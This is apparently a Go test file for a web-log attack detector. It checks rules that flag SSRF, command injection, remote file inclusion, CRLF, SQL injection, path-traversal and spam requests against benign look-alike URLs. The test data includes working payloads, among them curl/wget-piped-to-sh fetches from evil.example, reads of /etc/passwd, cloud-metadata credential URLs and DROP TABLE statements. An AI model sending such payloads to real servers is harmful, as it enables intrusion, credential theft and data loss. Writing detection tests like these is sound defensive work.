package detect

import (
	"testing"

	"github.com/logsift/logsift/internal/evidence"
)

// TestInjectionRules covers the families with their own category and the
// single-request payloads of issue 10, each beside the ordinary requests
// that look like them.
func TestInjectionRules(t *testing.T) {
	runRuleCases(t, []ruleCase{
		// SSRF
		{"metadata address", each(200, "", "/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"), evidence.SSRF, "hit", evidence.High, ""},
		{"metadata decimal", each(200, "", "/img?src=http://2852039166/latest/"), evidence.SSRF, "hit", 0, ""},
		{"metadata hex", each(200, "", "/img?src=http://0xA9FEA9FE/"), evidence.SSRF, "hit", 0, ""},
		{"gcp metadata host", each(200, "", "/proxy?dest=http://metadata.google.internal/computeMetadata/v1/"), evidence.SSRF, "hit", 0, ""},
		{"gopher", each(200, "", "/load?url=gopher://127.0.0.1:6379/_FLUSHALL"), evidence.SSRF, "hit", 0, ""},
		{"dict", each(200, "", "/load?url=dict://localhost:11211/stats"), evidence.SSRF, "hit", 0, ""},
		{"file url", each(200, "", "/preview?file=file:///etc/hostname"), evidence.SSRF, "hit", 0, ""},
		{"loopback", each(200, "", "/webhook/test?target=http://127.0.0.1:8080/admin"), evidence.SSRF, "hit", 0, "loopback"},
		{"loopback decimal", each(200, "", "/fetch?u=http://2130706433/"), evidence.SSRF, "hit", 0, ""},
		{"loopback hex", each(200, "", "/fetch?u=http://0x7f000001/"), evidence.SSRF, "hit", 0, ""},
		{"loopback octal", each(200, "", "/fetch?u=http://0177.0.0.1/"), evidence.SSRF, "hit", 0, ""},
		{"loopback ipv6", each(200, "", "/fetch?u=http://[::1]:22/"), evidence.SSRF, "hit", 0, ""},
		{"loopback ipv4-mapped", each(200, "", "/fetch?next=http%3A%2F%2F%5B%3A%3Affff%3A127.0.0.1%5D%2F"), evidence.SSRF, "hit", 0, ""},
		{"localhost scheme-relative", each(200, "", "/go?redirect=//localhost/server-status"), evidence.SSRF, "hit", 0, ""},
		{"ordinary redirects and share links", each(200, browser,
			"/login?next=/dashboard", "/share?url=https://example.com/article?id=3", "/out?url=http://example.org/page.html",
			"/login?next=https%3A%2F%2Fwww.example.com%2Faccount", "/img?src=https://cdn.example.net/a.png"), evidence.SSRF, "none", 0, ""},
		{"OAuth loopback redirect of a native app", each(200, browser,
			"/oauth/authorize?client_id=cli&redirect_uri=http://127.0.0.1:53682/callback&response_type=code",
			"/oauth/authorize?client_id=cli&redirect_uri=http%3A%2F%2Flocalhost%3A8400%2F"), evidence.SSRF, "none", 0, ""},
		{"numbers that are not addresses", each(200, browser, "/search?q=127+hours", "/p?id=2130706433", "/docs/localhost-setup"), evidence.SSRF, "none", 0, ""},

		// Command injection
		{"cat passwd", each(200, "", "/ping?ip=1.1.1.1;cat%20/etc/passwd"), evidence.CommandInjection, "hit", evidence.High, ""},
		{"pipe id", each(200, "", "/ping?ip=127.0.0.1|id"), evidence.CommandInjection, "hit", 0, ""},
		{"curl pipe sh", each(200, "", "/x?a=$(curl%20-s%20evil.example/x|sh)"), evidence.CommandInjection, "hit", 0, ""},
		{"backticks", each(200, "", "/x?a=`id`"), evidence.CommandInjection, "hit", 0, ""},
		{"wget to stdout", each(200, "", "/cgi?x=;wget%20evil.example/a%20-O-|sh"), evidence.CommandInjection, "hit", 0, ""},
		{"IFS", each(200, "", "/x?a=;cat${IFS}/etc/passwd"), evidence.CommandInjection, "hit", 0, ""},
		{"sleep after a value", each(200, "", "/x?host=a.example;sleep%205"), evidence.CommandInjection, "hit", 0, ""},
		{"API filters and lists", each(200, browser,
			"/api/items?fields=name|id", "/api/items?sort=name;id", "/search?q=cats|dogs", "/search?q=tom+%26%26+jerry",
			"/m;jsessionid=1?x=1", "/search?q=cat+food;+dog+food", "/p?tags=echo;ls"), evidence.CommandInjection, "none", 0, ""},

		// Remote file inclusion
		{"rfi any remote url in a file parameter", each(404, "", "/index.php?page=http://evil.example/shell"), evidence.RFI, "hit", evidence.High, ""},
		{"rfi include", each(404, "", "/inc.php?include=https://evil.example/x.txt"), evidence.RFI, "hit", 0, ""},
		{"rfi template ftp", each(404, "", "/t.php?template=ftp://evil.example/t"), evidence.RFI, "hit", 0, ""},
		{"rfi path smb", each(404, "", "/v.php?path=%5C%5Cevil.example%5Cshare%5Cx"), evidence.RFI, "hit", 0, ""},
		{"rfi array parameter", each(404, "", "/m.php?file[]=http://evil.example/a"), evidence.RFI, "hit", 0, ""},
		{"links in link parameters", each(200, browser,
			"/login?next=https://example.com/account", "/share?url=https://example.com/post", "/r?redirect=https://example.com/",
			"/page?id=http", "/docs?page=2&ref=https://example.com/"), evidence.RFI, "none", 0, ""},

		// CRLF injection
		{"set-cookie", each(302, "", "/redirect?to=/home%0d%0aSet-Cookie:%20session=evil"), evidence.CRLFInjection, "hit", evidence.Medium, ""},
		{"location in path", each(404, "", "/%0d%0aLocation:%20https://evil.example/"), evidence.CRLFInjection, "hit", 0, ""},
		{"lf only", each(404, "", "/x?y=1%0aX-Injected:%20yes"), evidence.CRLFInjection, "hit", 0, ""},
		{"response splitting", each(404, "", "/x?y=1%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"), evidence.CRLFInjection, "hit", 0, ""},
		{"line breaks in a text field", each(200, browser, "/feedback?msg=Hello%0D%0AThanks%20for%20the%20site", "/q?text=Note:%0ATime:%205pm"), evidence.CRLFInjection, "none", 0, ""},

		// SQL injection, single-request
		{"time-based polyglot", each(200, "", "/item?id=if(now()=sysdate(),sleep(19),0)/*'XOR(if(now()=sysdate(),sleep(19),0))OR'\"XOR(if(now()=sysdate(),sleep(19),0))OR\"*/"), evidence.SQLInjection, "hit", evidence.High, ""},
		{"sleep in an expression", each(200, "", "/item?id=1%20AND%20SLEEP(5)"), evidence.SQLInjection, "hit", 0, ""},
		{"sqlmap union#", each(200, "", "/item?id=1%20union%23x%0aselect%201,2"), evidence.SQLInjection, "hit", 0, "union"},
		{"sqlmap union--", each(200, "", "/item?id=1%20union--%20x%0aselect%201,2"), evidence.SQLInjection, "hit", 0, "union"},
		{"stacked drop", each(200, "", "/item?id=1;DROP%20TABLE%20users--"), evidence.SQLInjection, "hit", 0, "stacked"},
		{"boolean true", each(200, "", "/item?id=1%20AND%201=1"), evidence.SQLInjection, "hit", 0, "boolean"},
		{"boolean false", each(200, "", "/item?id=1+and+1%3D2"), evidence.SQLInjection, "hit", 0, ""},
		{"search words", each(200, browser,
			"/search?q=select+from+list", "/search?q=sleep+study", "/search?q=sleep+(5+hours)", "/search?q=union+station+and+grand+central",
			"/search?q=drop+table+salt", "/search?q=1+and+2+are+numbers", "/search?q=rock+or+roll", "/users?name=O%27Brien",
			"/search?q=O'Brien+and+O'Neil", "/api/items?filter=price%20gt%2010%20and%20stock%20lt%205",
			"/api/items?where={%22age%22:{%22$gt%22:18}}", "/api/items?q=a%3B+b", "/calc?expr=1+or+2"), evidence.SQLInjection, "none", 0, ""},

		// Other single-request payloads
		{"phpinfo in a query", each(200, "", "/index.php?x=phpinfo()"), evidence.CVEProbe, "hit", 0, ""},
		{"overlong dot", each(404, "", "/%c0%ae%c0%ae/%c0%ae%c0%ae/secret.txt"), evidence.PathTraversal, "hit", 0, ""},
		{"overlong slash", each(404, "", "/..%c0%af..%c0%afwinnt/system.ini"), evidence.PathTraversal, "hit", 0, ""},
		{"iis %u", each(404, "", "/scripts/%u002e%u002e/%u002e%u002e/winnt/system32/cmd.exe"), evidence.PathTraversal, "hit", 0, ""},
		{"env dressed as a script", []req{{ip: attacker, target: "/.env;.js", status: 200, bytes: 700}}, evidence.SensitiveFiles, "hit", evidence.High, ""},
		{"script with a session id", each(404, browser, "/app.js;jsessionid=ab12", "/style.css;v=2"), evidence.SensitiveFiles, "none", 0, ""},

		// Spam
		{"crawler posting a comment", []req{{ip: attacker, method: "POST", target: "/wp-comments-post.php", status: 302, ua: googlebot}}, evidence.Spam, "hit", evidence.Medium, "googlebot"},
		{"crawler posting a contact form", []req{{ip: attacker, method: "POST", target: "/contact", status: 200, ua: "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"}}, evidence.Spam, "hit", 0, ""},
		{"crawler reading comments", each(200, googlebot, "/blog/post/comments", "/contact"), evidence.Spam, "none", 0, ""},
		{"person posting a comment", []req{{ip: attacker, method: "POST", target: "/wp-comments-post.php", status: 302, ua: browser}}, evidence.Spam, "none", 0, ""},
	})
}
